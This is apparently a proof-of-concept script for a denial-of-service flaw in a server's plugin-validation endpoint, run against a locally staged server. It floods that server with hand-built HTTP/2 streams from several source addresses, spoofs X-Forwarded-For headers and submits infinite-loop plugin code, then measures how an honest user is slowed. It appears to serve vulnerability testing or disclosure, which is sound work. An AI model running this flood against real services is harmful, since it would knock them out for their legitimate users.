"""Many people each have eight validations wait (the limit for a person; there was none for all). Whoever waited looked every 100 ms whose turn it is, and each
look went over all who waited, under one lock, on the threads that serve everybody: quadratic. With 150 people some 1,200 waited. HTTP/2 with prior
knowledge: 64 connections from 8 addresses, 20 streams each, about 120 requests and 100 kB a second."""

import collections
import contextlib
import itertools
import json
import socket
import struct
import threading
import time

from common import Honest, Org, arguments, stage

FRAME = struct.Struct(">I")


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + FRAME.pack(stream) + payload


def text(value):
    value = value.encode() if isinstance(value, str) else value
    assert len(value) < 127
    return bytes([len(value)]) + value


class Connection:
    """An HTTP/2 connection that has so many requests under way, and sends another one when one ends."""

    def __init__(self, port, source, requests, streams, over, answers):
        self.port, self.source, self.requests, self.streams, self.over, self.answers = port, source, requests, streams, over, answers

    def run(self):
        while time.time() < self.over:
            with contextlib.suppress(OSError, EOFError):
                self.converse()
            time.sleep(0.1)

    def exactly(self, length):
        data = b""
        while len(data) < length:
            piece = self.socket.recv(length - len(data))
            if not piece:
                raise EOFError
            data += piece
        return data

    def begin(self):
        path, key, body = next(self.requests)
        network = "203." + self.source.split(".", 1)[1]
        head = b"\x83\x86" + b"\x04" + text(path) + b"\x01" + text(f"127.0.0.1:{self.port}")
        for name, value in (("authorization", "Bearer " + key), ("content-type", "application/json"), ("content-length", str(len(body))), ("x-forwarded-for", network)):
            head += b"\x00" + text(name) + text(value)
        self.socket.sendall(frame(1, 4, self.next, head) + frame(0, 1, self.next, body))
        self.next += 2

    def converse(self):
        self.next = 1
        with socket.create_connection(("127.0.0.1", self.port), 15, (self.source, 0)) as self.socket:
            self.socket.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0) + frame(8, 0, 0, FRAME.pack(0x3FFF0000)))
            for _ in range(self.streams):
                self.begin()
            while time.time() < self.over:
                head = self.exactly(9)
                kind, flags, stream = head[3], head[4], FRAME.unpack(head[5:])[0] & 0x7FFFFFFF
                payload = self.exactly(int.from_bytes(head[:3], "big"))
                if kind == 4 and not flags & 1:
                    self.socket.sendall(frame(4, 1, 0))
                elif kind == 6 and not flags & 1:
                    self.socket.sendall(frame(6, 1, 0, payload))
                elif kind == 7:
                    raise EOFError
                if kind == 1 and payload:
                    self.answers["first byte of the headers " + hex(payload[0])] += 1
                if kind == 3:
                    self.answers["reset"] += 1
                if stream and (kind == 3 or (kind in (0, 1) and flags & 1)):
                    self.answers["ended"] += 1
                    self.begin()


def main():
    given = arguments(__doc__, people=150, connections=64, streams=20)
    assert given.connections <= 100 and given.streams <= 30
    with stage(given, given.people) as (server, keys, victim):
        body = json.dumps({"plugin_type": "source", "source": {"index.js": "for (;;);"}}).encode()
        # Each person has an organization of their own; with --base they may also be members of few.
        orgs = [Org(server, key, f"Readings {n}") for n, key in enumerate(keys)]
        requests = itertools.cycle([(org.path("pipeline_destinations/"), org.key, body) for org in orgs])
        lock = threading.Lock()

        def following():
            while True:
                with lock:
                    one = next(requests)
                yield one

        with Honest(victim) as quiet:
            time.sleep(4)
        quiet.say("before")
        answers, over = collections.Counter(), time.time() + given.seconds
        with Honest(victim) as others:
            for number in range(given.connections):
                one = Connection(server.port, f"127.0.{number % 8 + 1}.1", following(), given.streams, over, answers)
                threading.Thread(target=one.run, daemon=True).start()
            time.sleep(given.seconds)
        others.say(f"while {len(keys)} people have {given.connections * given.streams} validations asked for: {dict(answers)}")


main()
